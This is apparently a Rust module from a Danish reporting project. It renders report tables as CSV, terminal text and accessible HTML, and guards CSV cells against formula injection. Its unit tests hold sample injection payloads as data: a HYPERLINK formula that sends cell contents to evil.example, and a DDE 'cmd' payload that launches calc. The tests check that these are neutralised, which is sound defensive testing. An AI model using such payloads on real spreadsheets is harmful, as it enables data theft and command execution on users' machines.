//! Tables as values: every report table is built once as a [`Table`] and
//! then written as CSV (plain, or Danish Excel), as HTML on the pages, or
//! serialised into JSON. Numbers stay decimal until they are written; the
//! rounding rule is `money::round`.

use std::borrow::Cow;
use std::fmt::Write as _;

use chrono::NaiveDate;
use rust_decimal::Decimal;
use serde::{Serialize, Serializer};

use crate::money::{Money, danish_decimal, plain_decimal};
use crate::render::Lang;

/// One cell.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Value {
    Text(String),
    Int(u64),
    Money(Money),
    /// A percentage, already as a percentage (53.6), with its decimals.
    Percent(Decimal, u32),
    /// A plain number with its decimals (months, rates).
    Number(Decimal, u32),
    Date(NaiveDate),
    /// 1 to 4 citizens, hidden from committees.
    Small,
    /// Hidden because a sum would give a small figure away.
    Hidden,
    /// No figure (no estimate, nothing to divide by).
    Missing,
}

impl Value {
    pub fn pct(share: Option<crate::money::Share>, dp: u32) -> Value {
        share.map_or(Value::Missing, |s| Value::Percent(s.percent(dp), dp))
    }

    pub fn money(m: Option<Money>) -> Value {
        m.map_or(Value::Missing, Value::Money)
    }

    /// For CSV and JSON: plain decimals with a dot.
    pub fn plain(&self) -> String {
        match self {
            Value::Text(t) => t.clone(),
            Value::Int(n) => n.to_string(),
            Value::Money(m) => m.plain(),
            Value::Percent(d, dp) | Value::Number(d, dp) => plain_decimal(*d, *dp),
            Value::Date(d) => d.to_string(),
            Value::Small => "< 5".into(),
            Value::Hidden => "hidden".into(),
            Value::Missing => String::new(),
        }
    }

    /// For Danish Excel: decimal comma, no thousands separator (Excel reads
    /// `25974,00` as a number in a Danish locale).
    pub fn excel_da(&self) -> String {
        match self {
            Value::Money(m) => plain_decimal(m.as_decimal(), 2).replace('.', ","),
            Value::Percent(d, dp) | Value::Number(d, dp) => plain_decimal(*d, *dp).replace('.', ","),
            Value::Hidden => "skjult".into(),
            other => other.plain(),
        }
    }

    /// For people, in the page's language: `25.974,00 kr.` and `53,6 %` in
    /// Danish, `25,974.00 kr.` and `53.6 %` in English.
    pub fn human(&self, lang: Lang) -> String {
        match (self, lang) {
            (Value::Money(m), Lang::Da) => format!("{} kr.", danish_decimal(m.as_decimal(), 2)),
            (Value::Money(m), Lang::En) => format!("{} kr.", english_decimal(m.as_decimal(), 2)),
            (Value::Percent(d, dp), Lang::Da) => format!("{} %", danish_decimal(*d, *dp)),
            (Value::Percent(d, dp), Lang::En) => format!("{} %", plain_decimal(*d, *dp)),
            (Value::Number(d, dp), Lang::Da) => danish_decimal(*d, *dp),
            (Value::Number(d, dp), Lang::En) => english_decimal(*d, *dp),
            (Value::Int(n), Lang::Da) => danish_decimal(Decimal::from(*n), 0),
            (Value::Int(n), Lang::En) => english_decimal(Decimal::from(*n), 0),
            (Value::Hidden, Lang::Da) => "skjult".into(),
            (Value::Date(d), Lang::Da) => d.format("%d.%m.%Y").to_string(),
            (Value::Missing, _) => "–".into(),
            (other, _) => other.plain(),
        }
    }

    /// Hidden from a committee (`< 5` or hidden).
    pub fn is_hidden(&self) -> bool {
        matches!(self, Value::Small | Value::Hidden)
    }

    pub fn is_numeric(&self) -> bool {
        !matches!(self, Value::Text(_) | Value::Date(_))
    }
}

/// English number format: thousands with `,`, decimals with `.`.
pub fn english_decimal(value: Decimal, dp: u32) -> String {
    danish_decimal(value, dp)
        .chars()
        .map(|c| match c {
            '.' => ',',
            ',' => '.',
            c => c,
        })
        .collect()
}

impl Serialize for Value {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        match self {
            Value::Int(n) => s.serialize_u64(*n),
            Value::Missing => s.serialize_none(),
            other => s.serialize_str(&other.plain()),
        }
    }
}

/// A column: a machine key (plain CSV, JSON) and labels in both languages.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Column {
    pub key: &'static str,
    pub en: String,
    pub da: String,
}

impl Column {
    pub fn new(key: &'static str, en: impl Into<String>, da: impl Into<String>) -> Column {
        Column { key, en: en.into(), da: da.into() }
    }

    pub fn label(&self, lang: Lang) -> &str {
        match lang {
            Lang::En => &self.en,
            Lang::Da => &self.da,
        }
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Table {
    /// The table's name in URLs (`?table=status`).
    pub name: &'static str,
    pub title_en: String,
    pub title_da: String,
    pub columns: Vec<Column>,
    pub rows: Vec<Vec<Value>>,
}

impl Table {
    pub fn title(&self, lang: Lang) -> &str {
        match lang {
            Lang::En => &self.title_en,
            Lang::Da => &self.title_da,
        }
    }
}

/// The two CSV dialects.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum Dialect {
    /// Comma, dot decimals, the columns' keys as the header.
    #[default]
    Plain,
    /// Semicolon, comma decimals, UTF-8 with BOM, CRLF, Danish headers: opens
    /// in a Danish Excel with numbers as numbers.
    ExcelDa,
}

impl Dialect {
    pub fn parse(text: &str) -> Option<Dialect> {
        match text {
            "plain" | "" => Some(Dialect::Plain),
            "excel-da" | "da" => Some(Dialect::ExcelDa),
            _ => None,
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            Dialect::Plain => "plain",
            Dialect::ExcelDa => "excel-da",
        }
    }
}

/// A cell as every CSV the project writes holds it. Text that a spreadsheet
/// would run as a formula, because it begins with `=`, `+`, `-`, `@`, a tab
/// or a carriage return (OWASP's CSV injection guidance), gets a single
/// quote in front: Excel and LibreOffice then show it as text, quote
/// included. A number as the project writes one (`-25.00`, or `-25,00` in
/// Danish) is left alone, so that a spreadsheet still reads a number.
pub fn csv_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// `-25`, `-25.00`, `-25,00`: an optional minus, digits, and at most one
/// decimal separator followed by digits.
fn is_number(text: &str) -> bool {
    let t = text.strip_prefix('-').unwrap_or(text);
    let (whole, decimals) = t.split_once(['.', ',']).unwrap_or((t, "0"));
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(decimals)
}

/// The table as CSV bytes.
pub fn to_csv(table: &Table, dialect: Dialect) -> Vec<u8> {
    let mut out = Vec::new();
    if dialect == Dialect::ExcelDa {
        out.extend_from_slice("\u{feff}".as_bytes());
    }
    let (delimiter, terminator) = match dialect {
        Dialect::Plain => (b',', csv::Terminator::Any(b'\n')),
        Dialect::ExcelDa => (b';', csv::Terminator::CRLF),
    };
    {
        let mut w = csv::WriterBuilder::new().delimiter(delimiter).terminator(terminator).from_writer(&mut out);
        let header: Vec<&str> = table
            .columns
            .iter()
            .map(|c| match dialect {
                Dialect::Plain => c.key,
                Dialect::ExcelDa => c.da.as_str(),
            })
            .collect();
        // Writing to a Vec cannot fail.
        let _ = w.write_record(header.iter().map(|h| csv_cell(h)).collect::<Vec<_>>().iter().map(|c| c.as_bytes()));
        for row in &table.rows {
            let cells: Vec<String> = row
                .iter()
                .map(|v| match dialect {
                    Dialect::Plain => v.plain(),
                    Dialect::ExcelDa => v.excel_da(),
                })
                .collect();
            let _ = w.write_record(cells.iter().map(|c| csv_cell(c)).collect::<Vec<_>>().iter().map(|c| c.as_bytes()));
        }
        let _ = w.flush();
    }
    out
}

/// The table as aligned text for a terminal.
pub fn to_text(table: &Table, lang: Lang) -> String {
    let header: Vec<String> = table.columns.iter().map(|c| c.label(lang).to_string()).collect();
    let rows: Vec<Vec<String>> = table.rows.iter().map(|r| r.iter().map(|v| v.human(lang)).collect()).collect();
    let widths: Vec<usize> = (0..header.len())
        .map(|i| {
            rows.iter()
                .map(|r| r.get(i).map_or(0, |c| c.chars().count()))
                .chain([header[i].chars().count()])
                .max()
                .unwrap_or(0)
        })
        .collect();
    let mut out = format!("{}\n", table.title(lang));
    let line = |cells: &[String], numeric: &dyn Fn(usize) -> bool| -> String {
        cells
            .iter()
            .enumerate()
            .map(|(i, c)| {
                let pad = widths[i].saturating_sub(c.chars().count());
                if numeric(i) { format!("{}{c}", " ".repeat(pad)) } else { format!("{c}{}", " ".repeat(pad)) }
            })
            .collect::<Vec<_>>()
            .join("  ")
            .trim_end()
            .to_string()
    };
    let numeric = |i: usize| table.rows.iter().any(|r| r.get(i).is_some_and(|v| v.is_numeric() && i > 0));
    out.push_str(&line(&header, &numeric));
    out.push('\n');
    for r in &rows {
        out.push_str(&line(r, &numeric));
        out.push('\n');
    }
    out
}

/// Escapes text for HTML.
pub fn esc(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// The table as an accessible HTML table: a caption, column headers with
/// `scope="col"`, and the first cell of each row as its row header.
pub fn to_html(table: &Table, lang: Lang) -> String {
    let mut h = String::new();
    let _ = write!(
        h,
        "<table class=\"figures\" id=\"table-{}\"><caption>{}</caption><thead><tr>",
        table.name,
        esc(table.title(lang))
    );
    for c in &table.columns {
        let _ = write!(h, "<th scope=\"col\">{}</th>", esc(c.label(lang)));
    }
    h.push_str("</tr></thead><tbody>");
    for row in &table.rows {
        h.push_str("<tr>");
        for (i, v) in row.iter().enumerate() {
            let text = esc(&v.human(lang));
            let key = table.columns.get(i).map_or("", |c| c.key);
            if i == 0 {
                let _ = write!(h, "<th scope=\"row\" data-key=\"{key}\">{text}</th>");
            } else if v.is_numeric() {
                let _ = write!(h, "<td class=\"num\" data-key=\"{key}\">{text}</td>");
            } else {
                let _ = write!(h, "<td data-key=\"{key}\">{text}</td>");
            }
        }
        h.push_str("</tr>");
    }
    h.push_str("</tbody></table>");
    h
}

#[cfg(test)]
mod tests {
    use super::*;
    use rust_decimal_macros::dec;

    fn table() -> Table {
        Table {
            name: "status",
            title_en: "Status".into(),
            title_da: "Status".into(),
            columns: vec![
                Column::new("group", "Group", "Målgruppe"),
                Column::new("referred", "Referred", "Henvist"),
                Column::new("paid", "Paid", "Udbetalt"),
                Column::new("success_rate", "Success rate", "Effekt"),
            ],
            rows: vec![
                vec![
                    Value::Text("Dagpenge".into()),
                    Value::Int(92),
                    Value::Money(Money::parse("25974").unwrap()),
                    Value::Percent(dec!(53.6), 1),
                ],
                vec![Value::Text("Integration".into()), Value::Small, Value::Hidden, Value::Missing],
            ],
        }
    }

    #[test]
    fn plain_csv_has_keys_commas_and_dots() {
        let text = String::from_utf8(to_csv(&table(), Dialect::Plain)).unwrap();
        assert_eq!(text, "group,referred,paid,success_rate\nDagpenge,92,25974.00,53.6\nIntegration,< 5,hidden,\n");
    }

    #[test]
    fn danish_excel_csv_has_a_bom_semicolons_and_decimal_commas() {
        let bytes = to_csv(&table(), Dialect::ExcelDa);
        assert_eq!(&bytes[..3], b"\xef\xbb\xbf");
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert_eq!(
            text,
            "Målgruppe;Henvist;Udbetalt;Effekt\r\nDagpenge;92;25974,00;53,6\r\nIntegration;< 5;skjult;\r\n"
        );
    }

    #[test]
    fn formulas_are_neutralised_in_both_dialects_and_numbers_stay_numbers() {
        let mut t = table();
        t.rows = vec![
            vec![
                Value::Text("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")".into()),
                Value::Text("+cmd|' /C calc'!A0".into()),
                Value::Text("@SUM(1+1)".into()),
                Value::Text("-1-1".into()),
            ],
            vec![
                Value::Text("\t=1+1".into()),
                Value::Text("\r=1+1".into()),
                Value::Money(Money::parse("-25").unwrap()),
                Value::Number(dec!(-1.5), 1),
            ],
            vec![
                Value::Text("-25.00".into()),
                Value::Text("a=1".into()),
                Value::Percent(dec!(-3.2), 1),
                Value::Text("'quoted".into()),
            ],
        ];
        let plain = String::from_utf8(to_csv(&t, Dialect::Plain)).unwrap();
        assert_eq!(
            plain,
            "group,referred,paid,success_rate\n\
             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\",'+cmd|' /C calc'!A0,'@SUM(1+1),'-1-1\n\
             '\t=1+1,\"'\r=1+1\",-25.00,-1.5\n\
             -25.00,a=1,-3.2,'quoted\n"
        );
        let da = String::from_utf8(to_csv(&t, Dialect::ExcelDa)[3..].to_vec()).unwrap();
        assert_eq!(
            da,
            "Målgruppe;Henvist;Udbetalt;Effekt\r\n\
             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\";'+cmd|' /C calc'!A0;'@SUM(1+1);'-1-1\r\n\
             '\t=1+1;\"'\r=1+1\";-25,00;-1,5\r\n\
             -25.00;a=1;-3,2;'quoted\r\n"
        );
    }

    #[test]
    fn only_plain_numbers_count_as_numbers() {
        for n in ["-25", "-25.00", "-25,00", "-0,5", "12"] {
            assert_eq!(csv_cell(n), n, "{n}");
        }
        for t in ["-", "-1-1", "-25.", "-.5", "-1.2.3", "-1e5", "- 5", "-25,00 kr."] {
            assert_eq!(csv_cell(t), format!("'{t}"), "{t}");
        }
    }

    #[test]
    fn people_read_danish_or_english_numbers() {
        let m = Value::Money(Money::parse("1234567.8").unwrap());
        assert_eq!(m.human(Lang::Da), "1.234.567,80 kr.");
        assert_eq!(m.human(Lang::En), "1,234,567.80 kr.");
        assert_eq!(Value::Percent(dec!(53.6), 1).human(Lang::Da), "53,6 %");
        assert_eq!(Value::Int(1234).human(Lang::Da), "1.234");
    }

    #[test]
    fn html_tables_have_headers_and_escape_text() {
        let mut t = table();
        t.rows[0][0] = Value::Text("<b>".into());
        let h = to_html(&t, Lang::Da);
        assert!(h.contains("<caption>Status</caption>"));
        assert!(h.contains("<th scope=\"col\">Målgruppe</th>"));
        assert!(h.contains("<th scope=\"row\" data-key=\"group\">&lt;b&gt;</th>"));
        assert!(h.contains("25.974,00 kr."));
    }
}
